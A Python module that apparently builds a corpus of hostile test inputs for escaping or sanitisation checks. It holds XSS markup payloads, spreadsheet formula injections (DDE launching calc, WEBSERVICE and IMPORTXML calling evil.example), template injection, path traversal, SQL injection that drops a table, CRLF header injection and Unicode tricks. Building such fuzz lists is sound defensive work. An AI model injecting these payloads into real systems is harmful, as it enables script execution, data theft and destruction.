"""Texts that would run, or be reckoned with, where a page or a sheet takes them for more than text."""

RUNS = "window.pwned=1"

MARKUP = [
    f"<script>{RUNS}</script>", f"<img src=x onerror={RUNS}>", f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>", f"<body onload={RUNS}>", f"<iframe srcdoc='<script>parent.{RUNS}</script>'>",
    f"<a href=javascript:{RUNS}>x</a>", f"<details open ontoggle={RUNS}>", f"<input autofocus onfocus={RUNS}>",
    f"<video><source onerror={RUNS}></video>", f"<math><mtext><script>{RUNS}</script>", f"<object data=javascript:{RUNS}>",
    f"<embed src=javascript:{RUNS}>", "<style>*{display:none}</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    f"<form action=javascript:{RUNS}><button>x", f"<animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<title><script>{RUNS}</script></title>", f"<textarea></textarea><script>{RUNS}</script>", f"<noscript><p title=\"</noscript><script>{RUNS}</script>\">",
    f"<template><script>{RUNS}</script></template>", f"<plaintext><script>{RUNS}</script>", f"<marquee onstart={RUNS}>",
    f"<select autofocus onfocus={RUNS}>", f"<table background=javascript:{RUNS}>", f"<x onclick={RUNS} style=position:fixed;inset:0>",
]
BREAKS = ["", "\"", "'", "\">", "'>", "-->", "</title>", "</textarea>", "</svg>", "]]>", "</td></tr></table>", "`>"]
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "@cmd", "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\",\"/C calc\",\"x\")", "=\"\"&1", "=1+1\",=1+1", "=1+1\n=1+1",
]
TEMPLATES = [
    "{{7*7}}", "{{{chart}}}", "{{>base}}", "{{#frame}}{{formToken}}{{/frame}}", "{{<base}}{{$body}}x{{/body}}{{/base}}",
    "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% import os %}", "{{=<% %>=}}<% formToken %>",
]
ODD = [
    "\u202egnp.exe", "\u2066x\u2069", "\u200bzero", "a\u0000b", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u009b31m",
    "\ufeffmark", "\ud83d\ude00", "a" * 180, "%3Cscript%3E", "&lt;script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e",
    "<ſcript>", "＜script＞", "../../etc/passwd", "' OR 1=1 --", "'; DROP TABLE api_cost_tracking; --", "\\", "\\\\", "null",
    "undefined", "NaN", "-0", "1e400", "|a|b|", "[x](javascript:alert(1))", "![x](//evil.example)", "`x`", "*x*", "_x_",
    "#x", "~~x~~", "<!--", "--!>", "<![CDATA[x]]>", "<?xml?>", "&entity;", "a&b=c", "a?b#c", "//evil.example", "javascript:1",
    "data:text/html,<script>", "  spaces  ", "\ttab", "new\nline", "\r\nset-cookie: a=b", "constructor", "__proto__",
]

HOSTILE = list(dict.fromkeys(
    [wall + text for text in MARKUP for wall in BREAKS] + FORMULAS + TEMPLATES + ODD
    + [formula + markup for formula in FORMULAS[:8] for markup in MARKUP[:18]]))
